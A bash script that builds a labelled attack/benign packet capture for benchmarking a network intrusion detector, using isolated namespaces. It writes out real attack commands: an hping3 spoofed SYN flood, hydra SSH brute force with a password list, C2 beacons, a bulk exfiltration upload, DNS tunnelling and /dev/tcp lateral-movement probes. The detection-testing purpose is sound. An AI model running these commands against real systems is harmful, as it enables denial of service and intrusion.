#!/usr/bin/env bash
# Builds a labelled capture for `picket eval`: benign traffic and attacks made by real tools in
# network namespaces, captured on the LAN bridge, with LABELS.csv giving each attack's exact
# window and endpoints.
#
#   bash bench/detect-make-labelled-capture.sh OUT_DIR      (needs root; writes OUT_DIR/labelled.pcap, OUT_DIR/LABELS.csv)
#
# Topology (all namespaces are pk-det-*, removed on exit):
#   LAN 10.15.0.0/16 on bridge br0 in pk-det-r (router 10.15.0.1), captured there:
#     pk-det-srv 10.15.1.2   nginx :80, sshd :22, dnsmasq :53 (the LAN resolver), 10.15.200.1-12 extra addresses
#     pk-det-ws1..3 10.15.1.10-12   benign workstations (web, DNS, ssh at random intervals)
#     pk-det-atk 10.15.1.66  the compromised host running the attacks
#   "internet" 198.51.100.0/24 behind the router: pk-det-inet 198.51.100.10 (nginx :80/:443, a stratum pool
#     :3333, an upload sink :8080), answering for every 198.51.100.128/25 address (AnyIP), so zones differ.
# Attacks: nmap vertical + horizontal, hping3 spoofed SYN flood (20 k packets), hydra against sshd (40
# passwords, 8 tasks), a TXT tunnel (base32 labels), DGA-like random names, curl beacons every 2 s ± jitter,
# a 30 MB upload, stratum mining, SMB/SSH fan-out, a WebSocket C2 polling every 3 s, gRPC method
# enumeration from outside. Bounded: every loop has a count and a timeout;
# the run takes about 2.5 minutes and the capture is ~40 MB.
# Tools: iproute2, tcpdump, nginx, openssh-server, dnsmasq, nmap, hping3, hydra, curl, openssl, node.
set -euo pipefail
out=${1:?usage: detect-make-labelled-capture.sh OUT_DIR}
here=$(cd "$(dirname "$0")/.." && pwd)
helpers="$here/dist/bench/detect-attack-helpers.js"
[ -f "$helpers" ] || { echo "build first: npx tsc -p tsconfig.json ($helpers missing)" >&2; exit 2; }
for t in ip tcpdump nginx /usr/sbin/sshd dnsmasq nmap hping3 hydra curl openssl; do
  command -v "$t" > /dev/null || { echo "missing tool: $t (apt-get install it)" >&2; exit 2; }
done
mkdir -p "$out"
out=$(cd "$out" && pwd)
work=$(mktemp -d /tmp/pk-det-XXXX)
NS="pk-det-r pk-det-inet pk-det-srv pk-det-ws1 pk-det-ws2 pk-det-ws3 pk-det-atk"
pids=()

cleanup() {
  set +e
  for p in "${pids[@]}"; do kill "$p" 2>/dev/null; done
  for f in "$work"/*.pid; do [ -f "$f" ] && kill "$(cat "$f")" 2>/dev/null; done
  [ -n "${dump:-}" ] && kill -INT "$dump" 2>/dev/null && sleep 1
  for n in $NS; do ip netns del "$n" 2>/dev/null; rm -rf "/etc/netns/$n"; done
  rm -rf "$work"
}
trap cleanup EXIT
for n in $NS; do ip netns del "$n" 2>/dev/null || true; done

now() { date +%s.%N | cut -c1-14; }
label() { echo "$1,$2,$3,$4,$5,$6" >> "$out/LABELS.csv"; }
echo "start,end,src_ip,dst_ip,label,mitre" > "$out/LABELS.csv"

# --- namespaces and links ---
for n in $NS; do ip netns add "$n"; ip -n "$n" link set lo up; done
ip -n pk-det-r link add br0 type bridge
ip -n pk-det-r addr add 10.15.0.1/16 dev br0
ip -n pk-det-r link set br0 up
ip netns exec pk-det-r sysctl -qw net.ipv4.ip_forward=1
attach() { # ns, ifname, address
  ip link add "pkd-$2" type veth peer name "pkd-$2-h"
  ip link set "pkd-$2" netns pk-det-r
  ip link set "pkd-$2-h" netns "$1"
  ip -n pk-det-r link set "pkd-$2" master br0 up
  ip -n "$1" link set "pkd-$2-h" name eth0
  ip -n "$1" addr add "$3/16" dev eth0
  ip -n "$1" link set eth0 up
  ip -n "$1" route add default via 10.15.0.1
  ip netns exec "$1" ethtool -K eth0 tso off gso off gro off 2>/dev/null || true
  ip netns exec pk-det-r ethtool -K "pkd-$2" tso off gso off gro off 2>/dev/null || true
  mkdir -p "/etc/netns/$1"
  echo "nameserver 10.15.1.2" > "/etc/netns/$1/resolv.conf"
}
attach pk-det-srv srv 10.15.1.2
attach pk-det-ws1 ws1 10.15.1.10
attach pk-det-ws2 ws2 10.15.1.11
attach pk-det-ws3 ws3 10.15.1.12
attach pk-det-atk atk 10.15.1.66
for i in $(seq 1 12); do ip -n pk-det-srv addr add "10.15.200.$i/16" dev eth0; done
ip link add pkd-up type veth peer name pkd-up-h
ip link set pkd-up netns pk-det-r
ip link set pkd-up-h netns pk-det-inet
ip -n pk-det-r addr add 198.51.100.1/24 dev pkd-up
ip -n pk-det-r link set pkd-up up
ip -n pk-det-inet link set pkd-up-h name eth0
ip -n pk-det-inet addr add 198.51.100.10/24 dev eth0
ip -n pk-det-inet link set eth0 up
ip -n pk-det-inet route add 10.15.0.0/16 via 198.51.100.1
# AnyIP for the upper half (not the /24: the router's 198.51.100.1 must stay a neighbour).
ip -n pk-det-inet route add local 198.51.100.128/25 dev lo
ip netns exec pk-det-inet ethtool -K eth0 tso off gso off gro off 2>/dev/null || true
ip netns exec pk-det-r ethtool -K pkd-up tso off gso off gro off 2>/dev/null || true

# --- services ---
mkdir -p "$work/www" "$work/nginx-srv" "$work/nginx-inet"
echo '<html><body>intranet</body></html>' > "$work/www/index.html"
head -c 20000 /dev/urandom | base64 > "$work/www/news.html"
echo ok > "$work/www/beacon"
chmod -R a+rX "$work"
openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj "/CN=web.example.net" -keyout "$work/key.pem" -out "$work/cert.pem" 2>/dev/null
nginx_conf() { # name, listen lines
  cat > "$work/nginx-$1.conf" <<NGINX
worker_processes 1;
pid $work/nginx-$1.pid;
error_log $work/nginx-$1-error.log;
events { worker_connections 1024; }
http { access_log off; server { $2 ssl_certificate $work/cert.pem; ssl_certificate_key $work/key.pem; root $work/www; } }
NGINX
}
nginx_conf srv "listen 10.15.1.2:80;"
nginx_conf inet "listen 198.51.100.10:80; listen 198.51.100.10:443 ssl;"
ip netns exec pk-det-srv nginx -c "$work/nginx-srv.conf" -p "$work/nginx-srv"
ip netns exec pk-det-inet nginx -c "$work/nginx-inet.conf" -p "$work/nginx-inet"
cat > "$work/hosts" <<HOSTS
10.15.1.2 www.corp.example files.corp.example
198.51.100.10 web.example.net news.example.org c2.example.net
HOSTS
ip netns exec pk-det-srv dnsmasq --no-resolv --no-hosts --addn-hosts="$work/hosts" --listen-address=10.15.1.2 \
  --bind-interfaces --pid-file="$work/dnsmasq.pid" --local=/com/ --local=/net/ --local=/org/ --local=/example/ \
  --local=/tunnel.example/ --log-facility=/dev/null
mkdir -p /run/sshd
ssh-keygen -q -t ed25519 -N '' -f "$work/hostkey"
ssh-keygen -q -t ed25519 -N '' -f "$work/userkey"
cp "$work/userkey.pub" "$work/authorized_keys"
ip netns exec pk-det-srv /usr/sbin/sshd -o PidFile="$work/sshd.pid" -h "$work/hostkey" -o UsePAM=no \
  -o PermitRootLogin=yes -o PasswordAuthentication=yes -o AuthorizedKeysFile="$work/authorized_keys" \
  -o StrictModes=no -o MaxStartups=200 -o MaxAuthTries=1 -o LoginGraceTime=15
ip netns exec pk-det-inet node "$helpers" stratum-server 198.51.100.10 3333 200 & pids+=($!)
ip netns exec pk-det-inet node "$helpers" http-sink 198.51.100.10 8080 200 & pids+=($!)
ip netns exec pk-det-inet node "$helpers" ws-server 198.51.100.10 8081 200 & pids+=($!)
ip netns exec pk-det-srv node "$helpers" grpc-server 10.15.1.2 50051 200 & pids+=($!)
head -c 30000000 /dev/urandom > "$work/upload.bin"
for w in password 123456 letmein qwerty admin welcome monkey dragon master shadow sunshine princess football \
  baseball iloveyou trustno1 superman hunter2 batman starwars whatever freedom charlie donald pokemon \
  secret summer flower hello login passw0rd abc123 111111 654321 access mustang michael jordan tigger ranger; do
  echo "$w"; done > "$work/pw.txt"

ip netns exec pk-det-r tcpdump -q -i br0 -s 0 -B 65536 -w "$out/labelled.pcap" 2> "$work/tcpdump.log" & dump=$!
sleep 2

# --- benign traffic for the whole run: random (exponential) gaps, no fixed period ---
SSH="ssh -i $work/userkey -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=3"
benign() { # ns, seconds
  local end=$(( $(date +%s) + $2 )) n=0
  while [ "$(date +%s)" -lt "$end" ] && [ $n -lt 200 ]; do
    n=$((n + 1))
    case $((RANDOM % 7)) in
      0|1) ip netns exec "$1" curl -s -o /dev/null --max-time 3 http://www.corp.example/ ;;
      2) ip netns exec "$1" curl -sk -o /dev/null --max-time 3 https://web.example.net/news.html ;;
      3) ip netns exec "$1" curl -s -o /dev/null --max-time 3 http://news.example.org/news.html ;;
      4) ip netns exec "$1" getent hosts files.corp.example > /dev/null || true ;;
      5) ip netns exec "$1" curl -s -o /dev/null --max-time 3 http://files.corp.example/index.html ;;
      6) [ $((RANDOM % 3)) -eq 0 ] && ip netns exec "$1" $SSH root@10.15.1.2 "sleep $((RANDOM % 4))" 2>/dev/null || true ;;
    esac
    sleep "$(awk -v r=$RANDOM 'BEGIN { srand(r); printf "%.2f", -log(1 - rand()) * 3 + 0.1 }')"
  done
}
bpids=()
for w in ws1 ws2 ws3; do benign "pk-det-$w" 150 & bpids+=($!); done

# --- attacks (sequential, each with its exact window) ---
sleep 5
# C2 beacon in the background: 45 HTTPS requests every 2 s + up to 0.8 s jitter.
(
  t0=$(now)
  for i in $(seq 1 45); do
    ip netns exec pk-det-atk curl -sk -o /dev/null --max-time 3 "https://c2.example.net/beacon?id=$i" || true
    sleep "2.$((RANDOM % 8))"
  done
  label "$t0" "$(now)" 10.15.1.66 198.51.100.10 beacon T1071.001
) & beacon=$!

# WebSocket C2 in the background: a small frame every 3 s ± 10 % for 130 s.
(
  sleep 1
  t0=$(now)
  ip netns exec pk-det-atk node "$helpers" ws-client ws://198.51.100.10:8081/agent 130 3000 || true
  label "$t0" "$(now)" 10.15.1.66 198.51.100.10 websocket_c2 T1071.001
) & wsc=$!

t0=$(now); ip netns exec pk-det-atk nmap -sS -Pn -n -T4 -p 1-1000 10.15.1.2 > /dev/null
label "$t0" "$(now)" 10.15.1.66 10.15.1.2 port_scan_vertical T1046
sleep 3
t0=$(now); ip netns exec pk-det-atk timeout 60 nmap -sS -Pn -n -T4 -p 22 198.51.100.129-254 > /dev/null || true
label "$t0" "$(now)" 10.15.1.66 "" port_scan_horizontal T1046
sleep 3
t0=$(now); ip netns exec pk-det-atk timeout 20 hping3 -q -S -p 80 --rand-source -i u100 -c 20000 10.15.1.2 > /dev/null 2>&1 || true
label "$t0" "$(now)" "" 10.15.1.2 syn_flood T1499
sleep 3
t0=$(now); (cd "$work" && ip netns exec pk-det-atk timeout 40 hydra -I -q -l root -P "$work/pw.txt" -t 8 ssh://10.15.1.2 > /dev/null 2>&1) || true
label "$t0" "$(now)" 10.15.1.66 10.15.1.2 ssh_brute_force T1110
sleep 2
t0=$(now); ip netns exec pk-det-atk node "$helpers" dns-tunnel 10.15.1.2 t.tunnel.example 60 6 2> /dev/null
label "$t0" "$(now)" 10.15.1.66 10.15.1.2 dns_tunnel T1071.004
sleep 2
t0=$(now); ip netns exec pk-det-atk node "$helpers" dga 10.15.1.2 40 5 2> /dev/null
label "$t0" "$(now)" 10.15.1.66 "" dga T1568.002
sleep 2
t0=$(now); ip netns exec pk-det-atk curl -s -o /dev/null --max-time 60 --data-binary "@$work/upload.bin" http://198.51.100.10:8080/upload || true
label "$t0" "$(now)" 10.15.1.66 198.51.100.10 exfiltration T1048
sleep 2
t0=$(now); ip netns exec pk-det-atk node "$helpers" stratum-client 198.51.100.10 3333 10 || true
label "$t0" "$(now)" 10.15.1.66 198.51.100.10 crypto_mining T1496
sleep 2
t0=$(now)
for i in $(seq 1 12); do
  ip netns exec pk-det-atk timeout 2 bash -c "echo > /dev/tcp/10.15.200.$i/445" 2>/dev/null || true
  ip netns exec pk-det-atk timeout 2 bash -c "exec 3<>/dev/tcp/10.15.200.$i/22; head -c 20 <&3 > /dev/null" 2>/dev/null || true
done
label "$t0" "$(now)" 10.15.1.66 "" lateral_movement T1021
sleep 2
# gRPC method enumeration from outside against an internal h2c server.
t0=$(now); ip netns exec pk-det-inet node "$helpers" grpc-probe http://10.15.1.2:50051 30 || true
label "$t0" "$(now)" 198.51.100.10 10.15.1.2 grpc_abuse T1190
wait "$beacon" || true
wait "$wsc" || true
for p in "${bpids[@]}"; do wait "$p" 2>/dev/null || true; done
sleep 6 # let closing handshakes reach the capture
kill -INT "$dump"; wait "$dump" 2>/dev/null || true
dump=
grep -E "packets (captured|dropped)" "$work/tcpdump.log" >&2 || true
echo "wrote $out/labelled.pcap ($(stat -c %s "$out/labelled.pcap") bytes) and $out/LABELS.csv ($(($(wc -l < "$out/LABELS.csv") - 1)) windows)" >&2
